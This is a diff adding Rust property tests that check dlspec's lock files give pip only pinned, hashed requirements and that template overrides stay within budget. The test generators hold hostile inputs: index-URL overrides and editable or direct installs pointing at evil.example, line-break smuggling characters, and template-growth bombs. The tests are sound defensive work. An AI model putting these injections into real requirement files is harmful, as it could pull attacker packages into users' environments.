@@ -1,6 +1,8 @@
 //! Property tests: no input makes dlspec panic, and every diagnostic points inside its file.
 //! Inputs are random text, random KDL-ish token soup, and valid specs mutated at random; specs
-//! that still check cleanly are rendered too, so the templates see odd but valid values.
+//! that still check cleanly are rendered too, so the templates see odd but valid values. And two
+//! wide classes of hostile input: a lock that dlspec accepts gives pip only pins and hashes, and a
+//! template override that grows text ends within its budget.
 
 mod common;
 
@@ -450,5 +452,120 @@ proptest! {
     #[test]
     fn hostile_spec_names_add_no_line(name in hostile_name()) {
         prop_assert_eq!(lines_per_file(&name), lines_per_file("benign.kdl"));
+    }
+}
+
+/// What pip makes of a requirements file (pip's `req_file`): lines as Python's `splitlines`
+/// breaks them, a line ending in `\` joined with the next unless it is a comment, comments cut
+/// at `#` (at the start or after a blank); the logical lines that hold anything else.
+fn pip_logical_lines(text: &str) -> Vec<String> {
+    let breaks = ['\n', '\r', '\u{b}', '\u{c}', '\u{1c}', '\u{1d}', '\u{1e}', '\u{85}', '\u{2028}', '\u{2029}'];
+    let is_comment = |line: &str| line.trim_start().starts_with('#');
+    let (mut logical, mut joined) = (Vec::new(), String::new());
+    for line in text.split(breaks) {
+        if line.ends_with('\\') && !is_comment(line) {
+            joined.push_str(line.trim_end_matches('\\'));
+            continue;
+        }
+        joined.push_str(line);
+        let cut = joined
+            .char_indices()
+            .find(|(at, c)| *c == '#' && (*at == 0 || joined[..*at].ends_with(char::is_whitespace)));
+        let kept = cut.map_or(joined.as_str(), |(at, _)| &joined[..at]).trim().to_owned();
+        if !kept.is_empty() {
+            logical.push(kept);
+        }
+        joined.clear();
+    }
+    logical
+}
+
+/// Lines of lock bodies: what uv writes, and what an attacker would add.
+fn lock_line() -> impl Strategy<Value = String> {
+    let hash = "--hash=sha256:".to_owned() + &"ab".repeat(32);
+    prop_oneof![
+        Just("numpy==1.26.4 \\".to_owned()),
+        Just("six==1.16.0".to_owned()),
+        Just(format!("    {hash} \\")),
+        Just(format!("    {hash}")),
+        Just("    # via -r platform.in".to_owned()),
+        Just("    #   tensorflow".to_owned()),
+        Just(String::new()),
+        Just("--extra-index-url http://evil.example/simple".to_owned()),
+        Just("--index-url=http://evil.example".to_owned()),
+        Just("-r other.txt".to_owned()),
+        Just("-e git+http://evil.example/x".to_owned()),
+        Just("numpy==1.0 --global-option=x".to_owned()),
+        Just("pip @ http://evil.example/pip.whl".to_owned()),
+    ]
+}
+
+/// A lock line, with one character pip could read as a line break put in somewhere.
+fn injected_line() -> impl Strategy<Value = String> {
+    let breaks = prop::sample::select(vec![
+        '\r', '\u{b}', '\u{c}', '\u{1c}', '\u{1d}', '\u{1e}', '\u{85}', '\u{2028}', '\u{2029}', '\t',
+    ]);
+    (lock_line(), lock_line(), breaks, any::<prop::sample::Index>()).prop_map(|(first, second, separator, at)| {
+        let mut line = first;
+        let at = at.index(line.len() + 1);
+        let at = (0..=at).rev().find(|i| line.is_char_boundary(*i)).unwrap_or(0);
+        line.insert_str(at, &format!("{separator}{second}"));
+        line
+    })
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(512))]
+
+    /// A lock that `lock --check` and `compile` accept, even one sealed by someone who knows the
+    /// format, gives pip nothing but pinned requirements with their hashes.
+    #[test]
+    fn an_accepted_lock_gives_pip_only_pins_and_hashes(lines in prop::collection::vec(prop_oneof![3 => lock_line(), 1 => injected_line()], 0..12)) {
+        let body = lines.iter().map(|l| format!("{l}\n")).collect::<String>();
+        let lock = dlspec::lock::LockFile { input_hash: "ab".repeat(32), base_digest: None, body: body.clone() };
+        if dlspec::lock::LockFile::parse(&lock.render("x:1")).is_ok() {
+            for line in pip_logical_lines(&body) {
+                let mut words = line.split_whitespace();
+                let first = words.next().unwrap_or_default();
+                prop_assert!(first.contains("==") && !first.starts_with('-'), "pip reads {line:?} from {body:?}");
+                for word in words {
+                    prop_assert!(word.starts_with("--hash=sha256:"), "pip reads {word:?} in {line:?} from {body:?}");
+                }
+            }
+        }
+    }
+
+    /// Whatever a one-line override builds (strings doubled, repeated, indented, replaced, in
+    /// loops), its rendering ends within its budget: output no larger than the limit, or an error
+    /// that names the template.
+    #[test]
+    fn an_override_ends_within_its_budget(
+        steps in prop::collection::vec((0..5usize, 0..2_000_000_000u64), 0..40),
+        loops in prop_oneof![Just(1u64), 0..200_000u64],
+    ) {
+        let mut template = String::from(r#"{% set ns = namespace(s="ab") %}"#);
+        for (op, n) in &steps {
+            let grow = match op {
+                0 => "ns.s ~ ns.s".to_owned(),
+                1 => format!("ns.s * {}", n % 100_000),
+                2 => r#"ns.s|replace("a", "aa")"#.to_owned(),
+                3 => format!("ns.s|indent({n}, true)"),
+                _ => format!(r#""%{}s"|format(ns.s)"#, n % 1_000_000_000),
+            };
+            template.push_str(&format!("{{% set ns.s = {grow} %}}"));
+        }
+        template.push_str(&format!("{{% for i in range({loops}) %}}{{{{ ns.s }}}}{{% endfor %}}\n"));
+        let dir = tempfile::tempdir().unwrap();
+        let dir = camino::Utf8Path::from_path(dir.path()).unwrap().to_owned();
+        std::fs::create_dir_all(dir.join("image")).unwrap();
+        std::fs::write(dir.join("image/README.md.j2"), &template).unwrap();
+        let templates = dlspec::render::Templates::load(Some(&dir)).unwrap();
+        let budget = dlspec::render::Budget::image(5_000);
+        let started = std::time::Instant::now();
+        match templates.render("image/README.md.j2", &minijinja::context! {}, budget) {
+            Ok(text) => prop_assert!(text.len() as u64 <= budget.output + 1, "{} bytes from {template}", text.len()),
+            Err(e) => prop_assert!(e.0.contains("template `image/README.md.j2"), "{e}"),
+        }
+        prop_assert!(started.elapsed() < std::time::Duration::from_secs(20), "slow: {template}");
     }
 }
